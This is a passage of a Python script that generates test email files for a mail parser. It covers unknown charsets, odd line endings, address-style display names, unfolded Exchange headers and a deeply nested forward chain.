From: Ana <ana@example.pt>
To: support@example.com
Subject: =?x-unknown?Q?Pedido_urgente?=
Date: Thu, 11 Apr 2024 10:00:00 +0100
Message-ID: <unknown-cs-1@example.pt>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-unknown"
Content-Transfer-Encoding: 8bit

Olá, o meu pedido ainda não chegou. Poderiam verificar a situação da encomenda, por favor?
""")

CASES["mbox_from_line_lf_only.eml"] = (
    b"From sender@example.net Fri Apr 12 10:00:00 2024\n"
    b"From: Sender <sender@example.net>\n"
    b"To: support@example.com\n"
    b"Subject: Maildir copy with LF line ends\n"
    b"Date: Fri, 12 Apr 2024 10:00:00 +0000\n"
    b"Message-ID: <lf-only-1@example.net>\n"
    b"\n"
    b"Line one.\nLine two.\n"
)

CASES["no_content_type_8bit_latin1_body.eml"] = (
    b"From: Old Client <old@example.at>\r\n"
    b"To: support@example.com\r\n"
    b"Subject: Reklamation\r\n"
    b"Date: Sat, 13 Apr 2024 10:00:00 +0200\r\n"
    b"Message-ID: <nocte-1@example.at>\r\n\r\n"
    + "Grüß Gott, die Waschmaschine schleudert nicht mehr. Können Sie einen Techniker schicken?\r\n".encode(
        "latin-1"
    )
)


# Short text in an unknown or missing charset: read in the charset declared elsewhere, else Western.
CASES["short_subject_unknown_charset.eml"] = crlf("""\
From: Marie Dubois <marie.dubois@orange.fr>
To: support@example.com
Subject: =?x-bogus-cs?Q?caf=E9?=
Date: Mon, 15 Apr 2024 09:00:00 +0200
Message-ID: <short-cs-1@orange.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Order 8812: the coffee machine arrived without its filter.
""")

CASES["short_body_unknown_charset.eml"] = (
    b"From: kiosk@shop.example\r\n"
    b"To: support@example.com\r\n"
    b"Subject: Menu\r\n"
    b"Date: Mon, 15 Apr 2024 09:05:00 +0200\r\n"
    b"Message-ID: <short-cs-2@shop.example>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=x-no-such-charset\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n"
    b"caf\xe9\r\n"
)

CASES["short_raw_8bit_subject_no_charset.eml"] = (
    b"From: old-client@example.fr\r\n"
    b"To: support@example.com\r\n"
    b"Subject: \xe9\xe8\xff\r\n"
    b"Date: Mon, 15 Apr 2024 09:10:00 +0200\r\n"
    b"Message-ID: <short-cs-3@example.fr>\r\n\r\n"
    b"See subject.\r\n"
)

CASES["short_unknown_8bit_word_cp1251_body.eml"] = crlf(f"""\
From: =?unknown-8bit?B?{base64.b64encode("Пётр".encode("cp1251")).decode()}?= <petr@mail.ru>
To: support@example.com
Subject: =?unknown-8bit?B?{base64.b64encode("Счёт".encode("cp1251")).decode()}?=
Date: Tue, 16 Apr 2024 10:00:00 +0300
Message-ID: <short-cs-4@mail.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1251
Content-Transfer-Encoding: 8bit

""") + "Добрый день! Пришлите, пожалуйста, счёт за апрель ещё раз, первый потерялся.\r\n".encode("cp1251")

CASES["short_name_unknown_charset_latin1_body.eml"] = (
    b"From: =?x-bogus?Q?Jos=E9_Garc=EDa?= <jose.garcia@example.es>\r\n"
    b"To: support@example.com\r\n"
    b"Subject: =?x-bogus?Q?Pedido_n=BA_77?=\r\n"
    b"Date: Tue, 16 Apr 2024 11:00:00 +0200\r\n"
    b"Message-ID: <short-cs-5@example.es>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=iso-8859-1\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n"
    + "¿Dónde está mi pedido? Lo pagué hace dos semanas.\r\n".encode("latin-1")
)

CASES["short_utf8_label_latin1_bytes.eml"] = (
    b"From: Hans <hans@example.de>\r\n"
    b"To: support@example.com\r\n"
    b"Subject: Gr\xfc\xdfe\r\n"
    b"Date: Tue, 16 Apr 2024 12:00:00 +0200\r\n"
    b"Message-ID: <short-cs-6@example.de>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n"
    b"Gr\xfc\xdfe\r\n"
)

CASES["short_raw_subject_charset_from_html_part.eml"] = (
    b"From: Anna <anna.kowalska@example.pl>\r\n"
    b"To: support@example.com\r\n"
    b"Subject: " + "Zamówienie".encode("iso-8859-2") + b"\r\n"
    b"Date: Wed, 17 Apr 2024 10:00:00 +0200\r\n"
    b"Message-ID: <short-cs-7@example.pl>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="alt"\r\n\r\n'
    b"--alt\r\n"
    b"Content-Type: text/plain\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n" + "Dziękuję!\r\n".encode("iso-8859-2") + b"--alt\r\n"
    b"Content-Type: text/html; charset=iso-8859-2\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n" + "<p>Dziękuję!</p>\r\n".encode("iso-8859-2") + b"--alt--\r\n"
)


# Display names that are themselves addresses (Outlook, Exchange, CRM exports): the angle address is the sender.
CASES["outlook_address_as_display_name.eml"] = crlf("""\
From: alice@example.com <bob@example.com>
To: support@example.com <support@example.com>
Subject: Refund for order 5521
Date: Thu, 18 Apr 2024 08:30:00 +0000
Message-ID: <addr-name-1@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Please refund order 5521 to my card.
""")

CASES["truncated_address_display_name.eml"] = crlf("""\
From: j.smith@contoso.c <john.smith@contoso.com>
To: Support <support@example.com>
Cc: 'kim@contoso.com' <kim.lee@contoso.com>, sales@contoso.com<sales-team@contoso.com>
Subject: Contract renewal
Date: Thu, 18 Apr 2024 09:00:00 +0000
Message-ID: <addr-name-2@contoso.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

When does our contract renew?
""")

CASES["address_display_name_with_reply_to_and_encoded_name.eml"] = crlf("""\
From: =?utf-8?Q?m=C3=BCller@example.de?= <hans.mueller@example.de>
Reply-To: billing@example.de <rechnungen@example.de>
To: support@example.com
Subject: Rechnung 2024-17
Date: Thu, 18 Apr 2024 10:00:00 +0200
Message-ID: <addr-name-3@example.de>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Bitte die Rechnung an die Buchhaltung schicken.
""")

# Exchange folds long X-Microsoft-* diagnostic headers without leading whitespace.
EXCHANGE_ANTISPAM = "=?us-ascii?Q?Jx1kQ0KzW2p9fGm4cW3ZbV1yZt8RkQ6m0Lw1XjN2vQ5aYp7cT0eRgH3sUi9oKfL?="

EXCHANGE_TEXT_QP = qp(
    "Hello,\n\nthe parcel for order 9913 arrived crushed. Please send a replacement.\n\nPetra Novák\n"
)

CASES["exchange_unfolded_antispam_header_multipart.eml"] = crlf(f"""\
Received: from AM0PR10MB2345.EURPRD10.PROD.OUTLOOK.COM (2603:10a6:208:1::1) by
 AM6PR10MB1234.EURPRD10.PROD.OUTLOOK.COM with HTTPS; Fri, 19 Apr 2024 07:00:01 +0000
X-MS-Exchange-Organization-ExpirationStartTime: 19 Apr 2024 07:00:01.0000 (UTC)
X-Microsoft-Antispam-Message-Info:
 {EXCHANGE_ANTISPAM}
Rk1aQ2xnZ0hYc0t6b1BqR3dNbFZ0ZXJ5TG9uZ0RpYWdub3N0aWNWYWx1ZUZvbGRlZFdpdGhvdXRTcGFjZQ
Q2FsbWx5R29lc09uRm9yQW5vdGhlckxpbmVPZkRpYWdub3N0aWNz
From: "Novak, Petra" <petra.novak@contoso.cz>
To: Support <support@example.com>
Subject: Broken delivery, order 9913
Date: Fri, 19 Apr 2024 07:00:00 +0000
Message-ID: <DB9PR10MB5678A1B2C3D4E5F6@DB9PR10MB5678.EURPRD10.PROD.OUTLOOK.COM>
Content-Type: multipart/alternative;
\tboundary="_000_DB9PR10MB5678_"
MIME-Version: 1.0

--_000_DB9PR10MB5678_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{EXCHANGE_TEXT_QP}
--_000_DB9PR10MB5678_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp("<html><body><p>Hello,</p><p>the parcel for order 9913 arrived <b>crushed</b>. Please send a replacement.</p><p>Petra Novák</p></body></html>")}
--_000_DB9PR10MB5678_--
""")

CASES["exchange_unfolded_header_before_from_with_attachment.eml"] = crlf(f"""\
X-MS-Exchange-CrossTenant-Network-Message-Id: 3f2a1b0c-9d8e-7f6a-5b4c-3d2e1f0a9b8c
X-Microsoft-Antispam: BCL:0;ARA:13230031|366016|1800799024|376014|
38070700018
X-MS-Exchange-AntiSpam-MessageData-ChunkCount: 1
X-MS-Exchange-AntiSpam-MessageData-0:
 =?us-ascii?Q?Zm9vYmFyYmF6cXV4?=
cXV1eGNvcmdlZ3JhdWx0Z2FycGx5d2FsZG9mcmVkcGx1Z2h4eXp6eQ
From: Tomas Berg <tomas.berg@contoso.se>
To: support@example.com
Subject: Invoice attached
Date: Fri, 19 Apr 2024 08:15:00 +0000
Message-ID: <HE1PR10MB9999F0E1D2C3B4A5@HE1PR10MB9999.EURPRD10.PROD.OUTLOOK.COM>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_002_HE1PR10MB9999_"

--_002_HE1PR10MB9999_
Content-Type: text/plain; charset="us-ascii"

Hi, the invoice for April is attached.

--_002_HE1PR10MB9999_
Content-Type: application/pdf; name="invoice-april.pdf"
Content-Disposition: attachment; filename="invoice-april.pdf"
Content-Transfer-Encoding: base64

{b64(INVOICE_PDF)}
--_002_HE1PR10MB9999_--
""")

CASES["exchange_unfolded_header_lf_only.eml"] = (
    b"Return-Path: <lena.fischer@contoso.de>\n"
    b"X-Microsoft-Antispam-Mailbox-Delivery:\n"
    b"\tucf:0;jmr:0;auth:0;dest:I;ENG:(910001)(944506478)(944626604)(920097)(930097)\n"
    b"(140003)(1420103)\n"
    b"X-Microsoft-Antispam-Message-Info-Original:\n"
    b" =?us-ascii?Q?aGVsbG9oZWxsb2hlbGxv?=\n"
    b"=?us-ascii?Q?d29ybGR3b3JsZHdvcmxk?=\n"
    b"From: Lena Fischer <lena.fischer@contoso.de>\n"
    b"To: support@example.com\n"
    b"Subject: =?utf-8?Q?R=C3=BCckruf_erbeten?=\n"
    b"Date: Fri, 19 Apr 2024 09:00:00 +0200\n"
    b"Message-ID: <AS8PR10MB4242@AS8PR10MB4242.EURPRD10.PROD.OUTLOOK.COM>\n"
    b"MIME-Version: 1.0\n"
    b'Content-Type: multipart/alternative; boundary="lf-alt"\n'
    b"\n"
    b"--lf-alt\n"
    b"Content-Type: text/plain; charset=utf-8\n"
    b"Content-Transfer-Encoding: 8bit\n"
    b"\n" + "Bitte rufen Sie mich zurück.\n".encode() + b"--lf-alt\n"
    b"Content-Type: text/html; charset=utf-8\n"
    b"Content-Transfer-Encoding: 8bit\n"
    b"\n" + "<p>Bitte rufen Sie mich zurück.</p>\n".encode() + b"--lf-alt--\n"
)


def deep_forward_chain(levels: int) -> bytes:
    """A ticket loop that wraps each round in another multipart/mixed: text and files at the bottom."""
    inner = crlf(f"""\
Content-Type: multipart/mixed; boundary="leaf"

--leaf
Content-Type: multipart/alternative; boundary="leaf-alt"

--leaf-alt
Content-Type: text/plain; charset=utf-8

The heating in flat 4B has been off since Monday.
--leaf-alt
Content-Type: text/html; charset=utf-8

<p>The heating in flat 4B has been off since <b>Monday</b>.</p>
--leaf-alt--

--leaf
Content-Type: application/pdf; name="meter-reading.pdf"
Content-Disposition: attachment; filename="meter-reading.pdf"
Content-Transfer-Encoding: base64

{b64(INVOICE_PDF)}
--leaf--
""")
    for level in reversed(range(levels)):
        boundary = f"loop-{level:02d}"
        photo = ""
        if level == levels // 2:
            photo = crlf(f"""\
--{boundary}
Content-Type: image/png; name="radiator.png"
Content-Disposition: attachment; filename="radiator.png"
Content-Transfer-Encoding: base64

{b64(PHOTO_PNG)}
""").decode()
        note = "Forwarded by the ticket system, see below.\n" if level == 0 else ""
        head = crlf(f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n')
        first = crlf(f"--{boundary}\nContent-Type: text/plain; charset=utf-8\n\n{note}\n") if note else b""
        inner = (
            head + first + crlf(f"--{boundary}\n") + inner + crlf(f"\n{photo}--{boundary}--\n")
        )  # fmt: skip
    return (
        crlf("""\
From: Tickets <tickets@housing.example>
To: support@example.com
Subject: Re: Re: Re: [#4471] Heating broken
Date: Mon, 22 Apr 2024 07:30:00 +0000
Message-ID: <loop-60@housing.example>
MIME-Version: 1.0
""")
        + inner
    )


CASES["deep_nested_forward_chain_60_levels.eml"] = deep_forward_chain(60)


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for name, data in CASES.items():
        (CORPUS / name).write_bytes(data)
    print(f"wrote {len(CASES)} messages to {CORPUS}")


if __name__ == "__main__":
    main()
